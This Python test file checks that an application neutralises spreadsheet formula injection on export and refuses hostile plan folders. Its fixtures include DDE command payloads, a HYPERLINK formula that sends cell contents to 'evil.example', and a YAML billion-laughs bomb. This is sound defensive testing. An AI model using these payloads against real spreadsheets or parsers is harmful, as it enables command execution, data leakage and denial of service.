"""Hostile plan folders (service and `lantian plan load`), and formula injection: cells imported
as text are exported as text (CSV and .xlsx, service, API and CLI)."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result
from sqlalchemy import Engine, func, select

from lantian.auth.models import AuditEntry
from lantian.db.engine import transaction
from lantian.sources import service
from lantian.sources.demo import png_photo
from lantian.sources.kinds.scattered import ScatteredEnterprise
from tests.hostile.corpus import HTML_PAGE
from tests.hostile.faces import (
    OFFICE,
    Faces,
    Outcome,
    _cli_outcome,
    _service_outcome,
)
from tests.web.test_source_pages import KIND, csv_of

# --- formula injection: cells imported as text, exported as text ------------------------------

#: Cells a spreadsheet would run (OWASP "CSV injection"): DDE, a formula, a hyperlink, a sum.
INJECTED = {
    "name": "=cmd|' /C calc'!A0",
    "address": '+HYPERLINK("http://evil.example/"&A1,"点击")',
    "industry": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _formula_cells(workbook_bytes_: bytes) -> list[str]:
    import io
    import zipfile

    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(workbook_bytes_)) as archive:
        formulas = [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]
    book = load_workbook(io.BytesIO(workbook_bytes_))
    cells = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    return formulas + cells


@pytest.mark.db
@pytest.mark.parametrize("face", ["service", "api", "cli"])
def test_formula_cells_imported_are_exported_as_text(
    faces: Faces, face: str, tmp_path: Path
) -> None:
    row = (
        f'SLW-F-0001,"{INJECTED["name"].replace(chr(34), chr(34) * 2)}",410183100,hbj,'
        f'"{INJECTED["address"].replace(chr(34), chr(34) * 2)}",113.3,34.5,2017-09-30,取缔,'
        f'"{INJECTED["industry"]}",,否'
    )
    done = faces.import_table("service", "台账.csv", csv_of([row]))
    assert not done.refused, done.message
    with faces.site.sessions() as session:
        kept = session.scalars(select(ScatteredEnterprise)).one()
        assert (kept.name, kept.address, kept.industry) == tuple(INJECTED.values())

    exports: dict[str, bytes] = {}
    for suffix in (".csv", ".xlsx"):
        if face == "service":
            with faces.site.sessions() as session:
                exports[suffix] = service.export_register(session, OFFICE, faces.kind, suffix)
        elif face == "api":
            answer = faces.api.get(
                f"/api/v1/sources/{KIND}/export",
                headers=faces.bearer,
                params={"format": suffix[1:]},
            )
            assert answer.status_code == 200, answer.text
            exports[suffix] = answer.content
        else:
            path = tmp_path / f"export{suffix}"
            assert faces.cli("sources", "export", KIND, str(path), "--as", "office").exit_code == 0
            exports[suffix] = path.read_bytes()

    import csv
    import io

    text = exports[".csv"].decode("utf-8-sig")
    (header, record) = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, record, strict=True))
    shown = [v for v in cells.values() if v.lstrip("'") in INJECTED.values()]
    assert len(shown) == 3 and all(v.startswith("'") for v in shown), cells
    assert not [v for v in record if v[:1] in ("=", "+", "@", "\t", "\r")], record
    assert _formula_cells(exports[".xlsx"]) == []
    from openpyxl import load_workbook

    values = {
        c.value for r in load_workbook(io.BytesIO(exports[".xlsx"])).active.iter_rows() for c in r
    }
    assert set(INJECTED.values()) <= values  # kept as the text it is, not altered


def test_every_workbook_export_stores_formula_like_text_as_text() -> None:
    """The one sanitiser every workbook passes (lantian.tabular.workbook_bytes)."""
    import io

    from openpyxl import Workbook, load_workbook

    from lantian.tabular import csv_safe, workbook_bytes

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", -5, "正常"])
    book.create_sheet("二").append(['=HYPERLINK("http://evil.example")'])
    data = workbook_bytes(book)
    assert _formula_cells(data) == []
    again = load_workbook(io.BytesIO(data))
    assert again.worksheets[0]["A1"].value == "=cmd|' /C calc'!A0"
    assert again.worksheets[1]["A1"].value == '=HYPERLINK("http://evil.example")'
    assert [csv_safe(v) for v in ("=1", "+1+1", "-2+3", "@A", "\t=1", "\r=1", -5, "-5", "正常")] == [
        "'=1", "'+1+1", "'-2+3", "'@A", "'\t=1", "'\r=1", "-5", "-5", "正常"
    ]  # fmt: skip


# --- plan folders: `lantian plan load` and the service behind it ------------------------------


def _plan_corpus() -> list[tuple[str, str, bytes, str]]:
    """(key, file replaced, its new bytes, the refusal) of a plan folder otherwise whole."""
    bomb = "lol: &l0 [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]\n" for n in range(1, 10)
    )
    return [
        ("yaml-billion-laughs", "tasks.yaml", bomb.encode(), "anchors and aliases"),
        ("oversized-yaml", "plan.yaml", b"", "too large"),  # made sparse below
        ("yaml-not-utf8", "plan.yaml", "计划".encode("utf-16"), "not UTF-8"),
        ("csv-that-is-png", "units.csv", png_photo(4, 4, (1, 2, 3), 0), "is a PNG file"),
        ("csv-undecodable", "stations.csv", b"code,name\n\x80\xff\x80\n", "cannot decode"),
        ("csv-that-is-html", "areas.csv", HTML_PAGE, "is a web page"),
    ]


@pytest.mark.db
@pytest.mark.parametrize("face", ["service", "cli"])
def test_every_hostile_plan_folder_is_refused_and_the_plan_loads_after(
    db_engine: Engine,
    tmp_path: Path,
    lantian: Callable[..., Result],
    monkeypatch: pytest.MonkeyPatch,
    face: str,
    record_property: Callable[[str, object], None],
) -> None:
    import shutil

    from lantian.campaign import service as campaign
    from lantian.campaign.models import CampaignPlan, CampaignUnit
    from lantian.db.engine import session_factory
    from lantian.plan import default_plan
    from lantian.plan.loader import read_plan
    from lantian.plan.reading import MAX_PLAN_FILE_BYTES

    sessions = session_factory(db_engine)
    original = default_plan().folder

    def written() -> tuple[int, ...]:
        with sessions() as session:
            return tuple(
                int(session.scalar(select(func.count()).select_from(m)) or 0)
                for m in (CampaignPlan, CampaignUnit, AuditEntry)
            )

    def load(folder: Path) -> Outcome:
        if face == "cli":
            return _cli_outcome(lantian("plan", "load", str(folder)))

        def call() -> None:
            with transaction(sessions) as session:
                campaign.load_plan(session, read_plan(folder), "test")

        return _service_outcome(call)

    failures = []
    corpus = _plan_corpus()
    for key, file, content, refusal in corpus:
        folder = tmp_path / key
        shutil.copytree(original, folder)
        (folder / file).write_bytes(content)
        if key == "oversized-yaml":
            with (folder / file).open("r+b") as handle:  # 33 MiB of zeros, sparse on disk
                handle.truncate(MAX_PLAN_FILE_BYTES + 2**20)
        before = written()
        outcome = load(folder)
        if not outcome.refused or refusal not in outcome.message:
            failures.append(f"{key}: {outcome}")
        if written() != before:
            failures.append(f"{key}: wrote {before} -> {written()}")
    record_property("hostile_tried", len(corpus))
    record_property("hostile_refused", len(corpus) - len({f.split(":")[0] for f in failures}))
    assert not failures, "\n".join(failures)
    good = tmp_path / "good"
    shutil.copytree(original, good)
    assert not load(good).refused
    assert written()[0] == 1
